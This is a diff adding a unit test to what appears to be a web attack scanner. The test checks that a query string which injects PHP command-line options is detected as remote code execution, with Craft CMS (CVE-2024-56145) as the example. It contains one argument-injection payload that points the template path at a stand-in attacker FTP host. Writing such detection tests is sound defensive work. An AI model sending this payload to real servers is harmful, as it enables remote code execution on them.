@@ -1234,6 +1234,16 @@ def test_a_path_parameter_with_a_value_is_no_file_type(engine: Engine, target: s
     assert engine.scan(Request("GET", target, (("Host", "shop.example.com"),))) == []
 
 
+def test_a_querys_name_that_is_a_long_option_is_an_argument_injected(engine: Engine) -> None:
+    """PHP's register_argc_argv hands a script the query string as its command line: Craft
+    CMS read its templates from where `--templatesPath` said (CVE-2024-56145). An option
+    as a value is a value (a search for `--help`, a sort order)."""
+    hits = engine.scan(Request("GET", "/?--templatesPath=ftp://evil.example/"))
+    assert [(hit.type.value, hit.rule) for hit in hits] == [("rce", 3035)]
+    for target in ("/search?q=--help", "/list?sort=--name&page=2"):
+        assert engine.scan(Request("GET", target)) == []
+
+
 def test_a_model_context_protocol_clients_file_uri_names_a_resource(engine: Engine) -> None:
     """A Model Context Protocol client names a server's resource by URI, a file's as
     `file:///…` (`resources/read`, `resources/subscribe`), and tells the server its roots
